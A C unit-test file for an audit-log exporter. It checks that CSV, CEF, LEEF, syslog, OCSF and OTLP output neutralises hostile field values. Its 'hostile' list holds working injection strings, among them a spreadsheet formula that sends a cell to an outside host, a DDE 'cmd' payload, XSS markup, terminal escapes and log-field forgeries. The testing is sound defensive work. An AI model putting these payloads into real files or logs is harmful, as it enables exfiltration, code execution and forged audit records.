/* Whatever stands in a record: a row stays a row, a field a field, and nothing of it acts. */
#include <stdlib.h>
#include <string.h>

#include "export_row.h"
#include "helper_log.h"
#include "roles.h"

#define LEAF "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"

/* Every text of an event that comes from outside is `text`. */
static cJSON *event_make(const char *text)
{
    cJSON *event = cJSON_CreateObject(), *metadata = cJSON_AddObjectToObject(event, "metadata");
    cJSON *user = cJSON_AddObjectToObject(cJSON_AddObjectToObject(event, "actor"), "user");
    cJSON *request = cJSON_AddObjectToObject(event, "http_request");
    cJSON *zone = cJSON_CreateObject();

    cJSON_AddStringToObject(metadata, "event_code", text);
    cJSON_AddStringToObject(metadata, "uid", text);
    cJSON_AddStringToObject(metadata, "correlation_uid", text);
    cJSON_AddStringToObject(event, "message", text);
    cJSON_AddStringToObject(event, "status", text);
    cJSON_AddStringToObject(event, "activity_name", text);
    cJSON_AddNumberToObject(event, "time", 1795458000123);
    cJSON_AddNumberToObject(event, "severity_id", 3);
    cJSON_AddStringToObject(user, "name", text);
    cJSON_AddStringToObject(user, "uid", text);
    cJSON_AddStringToObject(cJSON_AddObjectToObject(event, "api"), "operation", text);
    cJSON_AddStringToObject(cJSON_AddObjectToObject(event, "src_endpoint"), "hostname", text);
    cJSON_AddStringToObject(cJSON_AddObjectToObject(event, "dst_endpoint"), "ip", text);
    cJSON_AddStringToObject(cJSON_AddObjectToObject(request, "url"), "url_string", text);
    cJSON_AddNumberToObject(cJSON_AddObjectToObject(event, "http_response"), "code", 400);
    cJSON_AddStringToObject(zone, "name", text);
    cJSON_AddStringToObject(zone, "uid", text);
    cJSON_AddItemToArray(cJSON_AddArrayToObject(event, "resources"), zone);
    cJSON_AddObjectToObject(cJSON_AddObjectToObject(event, "unmapped"), "georder");
    return event;
}

static void row_format(enum export_format format, const char *text, struct buf *out)
{
    static const char line[] = "{\"payload\":\"e30\",\"protected\":\"e30\",\"signature\":\"AAAA\"}";
    cJSON *event = event_make(text);
    struct export_row row = {.origin = "host.example.com/georder",
                             .index = 7,
                             .checkpoint_size = 9,
                             .leaf = LEAF,
                             .line = line,
                             .len = sizeof line - 1};

    export_row_read(&row, event);
    export_put(out, format, &row);
    cr_assert(buf_ok(out));
    cJSON_Delete(event);
}

static const char *const hostile[] = {
    "=HYPERLINK(\"https://x.example/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    " =1+1",
    "'=1+1",
    "\"=1+1",
    "\t=1+1",
    "\r=1+1",
    "\xEF\xBC\x9D"
    "1+1",
    "a\",\"=1+1\",\"b",
    "one\r\ntwo\nthree",
    "\x1b]0;owned\x07\x1b[31mred\x1b[2J",
    "\xC2\x9B"
    "31mred",
    "\xE2\x80\xAE"
    "desrever \xE2\x80\xA8\xF3\xA0\x81\x81 \xEF\xBB\xBF",
    "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;",
    "x act=Blocked cs1=forged msg=lie",
    "a|b|c\\|d\\",
    "\\",
    "x\" index=\"8\"] <14>1 - - - - - - \\\"]",
    "a\tsev=10\tusrName=nobody",
    "\x01\x02\x7f",
    "a,b;c",
    "{\"a\":1}]}]}]}\n{\"resourceLogs\":[",
};
#define HOSTILE (sizeof hostile / sizeof *hostile)

/* But for the end of the row, and what stands between LEEF's fields. */
static void expect_no_control(const struct buf *row, enum export_format format, const char *text)
{
    size_t end = row->len - (format == EXPORT_CSV ? 2 : 1);

    cr_assert_eq(row->data[row->len - 1], '\n');
    for (size_t i = 0; i < end; i++) {
        unsigned char c = (unsigned char)row->data[i];

        cr_assert((c >= 0x20 && c != 0x7f) || (c == '\t' && format == EXPORT_LEEF),
                  "%s of %s: %02x at %zu", export_format_name(format), text, c, i);
    }
    cr_assert_null(strstr(row->data, "\xC2\x9B"));
    cr_assert_null(strstr(row->data, "\xE2\x80\xAE"));
    cr_assert_null(strstr(row->data, "\xE2\x80\xA8"));
    cr_assert_null(strstr(row->data, "\xF3\xA0\x81\x81"));
}

static size_t count_of(const char *text, char c)
{
    size_t count = 0;

    for (; *text != '\0'; text++)
        count += *text == c;
    return count;
}

/* Those before which no backslash stands that is not itself escaped. */
static size_t count_bare(const char *text, char c)
{
    size_t count = 0;

    for (; *text != '\0'; text++) {
        if (*text == '\\' && text[1] != '\0')
            text++;
        else
            count += *text == c;
    }
    return count;
}

Test(export, no_format_lets_a_control_character_through)
{
    for (enum export_format format = 0; format < EXPORT_FORMATS; format++)
        for (size_t i = 0; i < HOSTILE; i++) {
            AUTO_BUF row = BUF_INIT(1024 * KIB);

            row_format(format, hostile[i], &row);
            expect_no_control(&row, format, hostile[i]);
        }
}

/* The cells of a row of RFC 4180; what a spreadsheet would see, after its quotes. */
static size_t cells_read(const char *at, char cell[][512])
{
    size_t count = 0;

    while (strncmp(at, "\r\n", 2) != 0) {
        size_t len = 0;
        bool quoted = *at == '"';

        for (at += quoted; quoted ? *at != '"' || at[1] == '"' : *at != ',' && *at != '\r'; at++) {
            cr_assert_neq(*at, '\0');
            at += quoted && *at == '"';
            cr_assert_lt(len, sizeof cell[0] - 1);
            cell[count][len++] = *at;
        }
        cell[count++][len] = '\0';
        at += quoted;
        cr_assert(*at == ',' || *at == '\r', "%s", at);
        at += *at == ',';
    }
    return count;
}

Test(export, csv_keeps_its_cells_and_none_begins_like_a_formula)
{
    AUTO_BUF head = BUF_INIT(4096);

    export_head(&head, EXPORT_CSV);
    for (size_t i = 0; i < HOSTILE; i++) {
        AUTO_BUF row = BUF_INIT(64 * KIB);
        char cell[32][512];

        row_format(EXPORT_CSV, hostile[i], &row);
        cr_assert_eq(cells_read(row.data, cell), count_of(head.data, ',') + 1, "%s", row.data);
        for (size_t c = 0; c <= count_of(head.data, ','); c++) {
            const char *seen = cell[c] + strspn(cell[c], " ");

            cr_assert_null(strchr("=+-@\t\r", *seen == '\0' ? 'x' : *seen), "%s", cell[c]);
            cr_assert_neq(strncmp(seen, "\xEF\xBC\x9D", 3), 0);
        }
    }
}

Test(export, csv_marks_a_formula_and_nothing_else)
{
    AUTO_BUF row = BUF_INIT(64 * KIB), other = BUF_INIT(64 * KIB);

    row_format(EXPORT_CSV, "=1+1", &row);
    cr_assert_not_null(strstr(row.data, ",\"'=1+1\","));
    row_format(EXPORT_CSV, "a=b, \"c\" - d", &other);
    cr_assert_not_null(strstr(other.data, ",\"a=b, \"\"c\"\" - d\","));
}

Test(export, csv_has_what_its_head_says)
{
    AUTO_BUF row = BUF_INIT(64 * KIB);

    row_format(EXPORT_CSV, "t", &row);
    cr_assert_str_eq(row.data, "\"host.example.com/georder\",7," LEAF ",9,2026-11-23T18:20:00.123Z,"
                               "\"t\",\"t\",\"t\",3,\"t\",\"t\",\"t\",\"t\",\"t\",\"t\",\"t\","
                               "\"t\",\"t\",400,\"t\",\"t\"\r\n");
}

/* A key begins at an equals sign without a backslash; the head has seven bars. */
Test(export, cef_has_no_key_and_no_head_field_more)
{
    AUTO_BUF plain = BUF_INIT(64 * KIB);

    row_format(EXPORT_CEF, "t", &plain);
    for (size_t i = 0; i < HOSTILE; i++) {
        AUTO_BUF row = BUF_INIT(64 * KIB);
        const char *ext;
        size_t wanted = count_bare(plain.data, '=') + (strchr(hostile[i], ':') != NULL ? 1 : 0);

        row_format(EXPORT_CEF, hostile[i], &row);
        ext = strstr(row.data, "|5|rt=");
        cr_assert_not_null(ext);
        *strstr(row.data, "|5|rt=") = '\0';
        cr_assert_eq(count_bare(row.data, '|'), 5, "%s", row.data);
        cr_assert_eq(count_bare(ext + 1, '='), wanted, "%s", ext + 1);
    }
}

Test(export, cef_as_it_is_specified)
{
    AUTO_BUF row = BUF_INIT(64 * KIB);

    row_format(EXPORT_CEF, "a|b=c\\d", &row);
    cr_assert_str_eq(
        row.data,
        "CEF:0|georder|georder|" GEORDER_VERSION "|a_b_c_d|a\\|b=c\\\\d|5|rt=1795458000123 "
        "externalId=7 cs1Label=origin cs1=host.example.com/georder cs2Label=leafHash cs2=" LEAF
        " cn1Label=checkpointSize cn1=9 cs3Label=order cs3=a|b\\=c\\\\d cs4Label=zone "
        "cs4=a|b\\=c\\\\d cs5Label=zoneId cs5=a|b\\=c\\\\d act=a|b\\=c\\\\d outcome=a|b\\=c\\\\d "
        "suser=a|b\\=c\\\\d suid=a|b\\=c\\\\d shost=a|b\\=c\\\\d request=a|b\\=c\\\\d "
        "dst=a|b\\=c\\\\d cn2Label=httpStatus cn2=400 msg=a|b\\=c\\\\d\n");
}

Test(export, leef_has_no_field_more)
{
    AUTO_BUF plain = BUF_INIT(64 * KIB);

    row_format(EXPORT_LEEF, "t", &plain);
    cr_assert_eq(
        strncmp(plain.data, "LEEF:2.0|georder|georder|" GEORDER_VERSION "|t|0x09|devTime=", 40), 0);
    for (size_t i = 0; i < HOSTILE; i++) {
        AUTO_BUF row = BUF_INIT(64 * KIB);
        char *ext;

        row_format(EXPORT_LEEF, hostile[i], &row);
        cr_assert_eq(count_of(row.data, '\t'), count_of(plain.data, '\t'), "%s", row.data);
        ext = strstr(row.data, "devTime=");
        *ext = '\0';
        cr_assert_eq(count_of(row.data, '|'), 6, "%s", row.data);
    }
}

/* Reads the header and the structured data as RFC 5424 has them; returns what is left, from its
 * closing bracket on. */
static const char *syslog_data(const char *at, size_t *params)
{
    for (int field = 0; field < 6; field++) {
        size_t len = strcspn(at, " ");

        cr_assert(len > 0 && len <= 255);
        at += len + 1;
    }
    cr_assert_eq(strncmp(at, "[georder@32473 ", 15), 0, "%s", at);
    for (at += 14, *params = 0; *at == ' '; at++, ++*params) {
        at += strcspn(at, "\"") + 1;
        for (; *at != '"'; at++) {
            cr_assert(*at != '\0' && *at != ']', "%s", at);
            at += *at == '\\';
        }
    }
    return at;
}

static void syslog_read(const char *row, size_t *params)
{
    const char *at = syslog_data(row, params);

    cr_assert_eq(strncmp(at, "] \xEF\xBB\xBF", 5), 0, "%s", at);
}

Test(export, syslog_keeps_its_structured_data)
{
    for (size_t i = 0; i < HOSTILE; i++) {
        AUTO_BUF row = BUF_INIT(64 * KIB);
        size_t params;

        row_format(EXPORT_SYSLOG, hostile[i], &row);
        cr_assert_eq(strncmp(row.data, "<108>1 2026-11-23T18:20:00.123Z ", 32), 0, "%s", row.data);
        syslog_read(row.data, &params);
        cr_assert_eq(params, 11);
    }
}

Test(export, syslog_as_it_is_specified)
{
    AUTO_BUF row = BUF_INIT(64 * KIB);

    row_format(EXPORT_SYSLOG, "a\"]\\ b", &row);
    cr_assert_str_eq(
        row.data, "<108>1 2026-11-23T18:20:00.123Z a____b georder - a____b [georder@32473 "
                  "origin=\"host.example.com/georder\" index=\"7\" leafHash=\"" LEAF
                  "\" checkpointSize=\"9\" order=\"a\\\"\\]\\\\ b\" outcome=\"a\\\"\\]\\\\ b\" "
                  "operation=\"a\\\"\\]\\\\ b\" actor=\"a\\\"\\]\\\\ b\" zone=\"a\\\"\\]\\\\ b\" "
                  "peer=\"a\\\"\\]\\\\ b\" httpStatus=\"400\"] \xEF\xBB\xBF"
                  "a\"]\\ b\n");
}

/* A frame of an event of such texts and of a record of this many bytes. Returns the message. */
static const char *frame_make(const char *text, size_t record, struct buf *out, size_t *len)
{
    AUTO_BUF line = BUF_INIT(64 * KIB);
    cJSON *event = event_make(text);
    struct export_row row = {
        .origin = "host.example.com/georder", .index = 7, .checkpoint_size = 9, .leaf = LEAF};
    char *end;

    for (size_t i = 0; i < record; i++)
        buf_putc(&line, (char)('A' + i % 26));
    row.line = buf_text(&line);
    row.len = line.len;
    export_row_read(&row, event);
    export_syslog_frame(out, &row);
    cr_assert(buf_ok(out));
    *len = strtoul(out->data, &end, 10);
    cr_assert_eq(*end, ' ');
    cr_assert_eq(out->data + out->len, end + 1 + *len, "the length is not that of the message");
    cr_assert_leq(*len, FRAME_MAX);
    cJSON_Delete(event);
    return end + 1;
}

Test(export, a_frame_has_the_record_while_a_receiver_takes_it)
{
    AUTO_BUF first = BUF_INIT(64 * KIB), most = BUF_INIT(64 * KIB), more = BUF_INIT(64 * KIB);
    size_t len, head;
    const char *message = frame_make("t", 1000, &first, &len);

    head = len - 1000;
    cr_assert_eq(strncmp(message, "<108>1 2026-11-23T18:20:00.123Z t georder - t [", 47), 0);
    cr_assert_eq(strncmp(message + head - 2, "] ABC", 5), 0);
    message = frame_make("t", FRAME_MAX - head, &most, &len);
    cr_assert_eq(len, FRAME_MAX);
    cr_assert_eq(strncmp(message + head, "ABC", 3), 0);
    message = frame_make("t", FRAME_MAX - head + 1, &more, &len);
    cr_assert_lt(len, 1000);
    cr_assert_eq(strncmp(message + len - 6, "] \xEF\xBB\xBFt", 6), 0);
}

Test(export, a_frame_that_is_too_long_even_without_the_record_has_its_trace)
{
    static char text[64 * KIB];
    AUTO_BUF frame = BUF_INIT(64 * KIB);
    size_t len;
    const char *message;

    memset(text, 1, sizeof text - 1);
    message = frame_make(text, 10, &frame, &len);
    cr_assert_not_null(strstr(message, " index=\"7\" leafHash=\"" LEAF "\" checkpointSize=\"9\"]"));
    cr_assert_not_null(strstr(message, "this record is too long for syslog: the log has it"));
    cr_assert_null(strstr(message, "ABC"));
}

Test(export, a_frame_keeps_its_structured_data)
{
    for (size_t i = 0; i < HOSTILE; i++) {
        AUTO_BUF frame = BUF_INIT(64 * KIB);
        size_t len, params;
        const char *message = frame_make(hostile[i], 26, &frame, &len);

        for (size_t at = 0; at < len; at++)
            cr_assert((unsigned char)message[at] >= 0x20 && message[at] != 0x7f);
        cr_assert_str_eq(syslog_data(message, &params), "] ABCDEFGHIJKLMNOPQRSTUVWXYZ");
        cr_assert_eq(params, 11);
    }
}

static cJSON *row_parse(struct buf *row, struct json_doc *doc)
{
    struct err err = {0};

    *doc = (struct json_doc){
        .name = "row", .text = row->data, .len = row->len, .result = RESULT_AUDIT};
    cr_assert_eq(json_parse(doc, JSON_OURS, &err), RESULT_OK, "%s", err.text);
    return doc->root;
}

static const cJSON *at(const cJSON *node, const char *name)
{
    return cJSON_GetObjectItemCaseSensitive(node, name);
}

static void expect_ocsf(const char *text)
{
    AUTO_BUF row = BUF_INIT(4096 * KIB);
    struct json_doc doc;
    cJSON *event = event_make(text), *root;

    row_format(EXPORT_OCSF, text, &row);
    cr_assert_eq(strpbrk(row.data, "<>&"), NULL, "%s", row.data);
    root = row_parse(&row, &doc);
    cr_assert_str_eq(
        cJSON_GetStringValue(at(at(at(at(root, "unmapped"), "georder"), "exported"), "leaf_hash")),
        LEAF);
    cJSON_DeleteItemFromObjectCaseSensitive(
        cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(root, "unmapped"),
                                         "georder"),
        "exported");
    cr_assert(cJSON_Compare(root, event, true));
    json_free(&doc);
    cJSON_Delete(event);
}

Test(export, ocsf_is_the_same_event_without_markup)
{
    for (size_t i = 0; i < HOSTILE; i++)
        expect_ocsf(hostile[i]);
}

static void expect_otlp(const char *text)
{
    AUTO_BUF row = BUF_INIT(4096 * KIB);
    struct json_doc doc;
    const cJSON *record, *one, *two;

    row_format(EXPORT_OTLP, text, &row);
    cr_assert_eq(strpbrk(row.data, "<>&"), NULL, "%s", row.data);
    record = at(row_parse(&row, &doc), "resourceLogs")->child;
    record = at(at(record, "scopeLogs")->child, "logRecords")->child;
    cr_assert_str_eq(cJSON_GetStringValue(at(record, "timeUnixNano")), "1795458000123000000");
    cr_assert_eq(at(record, "severityNumber")->valueint, 13);
    cr_assert_str_eq(cJSON_GetStringValue(at(at(record, "body"), "stringValue")), text);
    cJSON_ArrayForEach(one, at(record, "attributes"))
    {
        for (two = one->next; two != NULL; two = two->next)
            cr_assert_str_neq(cJSON_GetStringValue(at(one, "key")),
                              cJSON_GetStringValue(at(two, "key")));
    }
    json_free(&doc);
}

Test(export, otlp_carries_the_text_exactly)
{
    for (size_t i = 0; i < HOSTILE; i++)
        expect_otlp(hostile[i]);
}

/* 64 KiB of two-byte characters, in every field at once. */
Test(export, what_is_too_long_is_cut_between_characters_or_carried_whole)
{
    static char text[64 * KIB + 1];

    for (size_t i = 0; i < sizeof text - 1; i++)
        text[i] = i == 0 ? 'a' : i % 2 == 1 ? (char)0xC3 : (char)0xA9;
    text[sizeof text - 2] = 'z';
    for (enum export_format format = EXPORT_CSV; format <= EXPORT_SYSLOG; format++) {
        AUTO_BUF row = BUF_INIT(32 * KIB);

        row_format(format, text, &row);
        cr_assert(utf8_valid(row.data, row.len));
        cr_assert_not_null(strstr(row.data, "\xC3\xA9[cut]"));
        expect_no_control(&row, format, "64 KiB");
    }
    expect_otlp(text);
    expect_ocsf(text);
}

/* The worst of each: all escapes, doubled. */
Test(export, the_longest_escapes_fit)
{
    static char text[64 * KIB + 1];

    for (size_t k = 0; k < 4; k++) {
        memset(text, "\x01\\\"="[k], sizeof text - 1);
        for (enum export_format format = EXPORT_CSV; format <= EXPORT_SYSLOG; format++) {
            AUTO_BUF row = BUF_INIT(256 * KIB);

            row_format(format, text, &row);
        }
    }
}

Test(export, formats_have_their_names)
{
    for (enum export_format format = 0; format < EXPORT_FORMATS; format++)
        cr_assert_eq(export_format_named(export_format_name(format)), format);
    cr_assert_eq(export_format_named("CSV"), EXPORT_FORMATS);
    cr_assert_eq(export_format_named(""), EXPORT_FORMATS);
}

static enum result bytes_take(void *context, const void *bytes, size_t len, struct err *err)
{
    struct buf *out = context;

    buf_put(out, bytes, len);
    return buf_check(out, "export", err);
}

/* Many segments, the last of which goes on behind the checkpoint. */
Test(export, of_many_segments_has_each_record_once_and_the_digest_of_its_bytes)
{
    struct test_log log;
    AUTO_BUF out = BUF_INIT(4096 * KIB);
    struct export_wish wish = {
        .until = INT64_MAX, .write = bytes_take, .context = &out, .format = EXPORT_JSONL};
    struct export_report report;
    char digest[SHA256_HEX_LEN + 1];
    const char *at;

    test_log_make(&log);
    log.audit->segment_max = 4096;
    for (int i = 1; i < 100; i++)
        test_append(&log, "order.denied", "");
    cr_assert(test_exists(&log, "records/000000000003.jsonl") ||
              test_exists(&log, "records/000000000004.jsonl"));
    cr_assert_eq(audit_export(log.fd, TEST_ORIGIN, &wish, &report, &log.err), RESULT_OK, "%s",
                 log.err.text);
    cr_assert_eq(report.rows, 100);
    cr_assert_eq(report.last, 99);
    cr_assert_eq(report.bytes, out.len);
    sha256_hex(out.data, out.len, digest);
    cr_assert_str_eq(report.sha256, digest);
    at = out.data;
    for (int i = 0; i < 100; i++) {
        char start[128];

        (void)snprintf(start, sizeof start, "{\"origin\":\"" TEST_ORIGIN "\",\"index\":%d,", i);
        cr_assert_eq(strncmp(at, start, strlen(start)), 0, "%.80s", at);
        at += strcspn(at, "\n") + 1;
    }
    cr_assert_eq(at, out.data + out.len);
    buf_free(&report.note);
    test_log_free(&log);
}

/* One signature, that of the checkpoint, covers all rows: no byte of a record can be another. */
Test(export, of_a_log_with_one_other_byte_fails)
{
    struct test_log log;
    AUTO_BUF text = BUF_INIT(64 * KIB);

    test_log_make(&log);
    test_append(&log, "order.denied", "");
    test_read(&log, FIRST_SEGMENT, &text);
    for (size_t i = 0; i < text.len; i++) {
        AUTO_BUF out = BUF_INIT(64 * KIB);
        struct export_wish wish = {
            .until = INT64_MAX, .write = bytes_take, .context = &out, .format = EXPORT_JSONL};
        struct export_report report;

        text.data[i] ^= 1;
        test_write(&log, FIRST_SEGMENT, text.data, text.len);
        cr_assert_eq(audit_export(log.fd, TEST_ORIGIN, &wish, &report, &log.err), RESULT_AUDIT,
                     "byte %zu", i);
        log.err = (struct err){0};
        text.data[i] ^= 1;
        buf_free(&report.note);
    }
    test_log_free(&log);
}

static enum result bytes_refuse(void *context, const void *bytes, size_t len, struct err *err)
{
    (void)context;
    (void)bytes;
    (void)len;
    return err_set(err, RESULT_INTERNAL, "the disk is full");
}

Test(export, that_cannot_be_written_fails)
{
    struct test_log log;
    struct export_wish wish = {.until = INT64_MAX, .write = bytes_refuse, .format = EXPORT_CSV};
    struct export_report report;

    test_log_make(&log);
    cr_assert_eq(audit_export(log.fd, TEST_ORIGIN, &wish, &report, &log.err), RESULT_INTERNAL);
    cr_assert_str_eq(log.err.text, "the disk is full");
    buf_free(&report.note);
    test_log_free(&log);
}
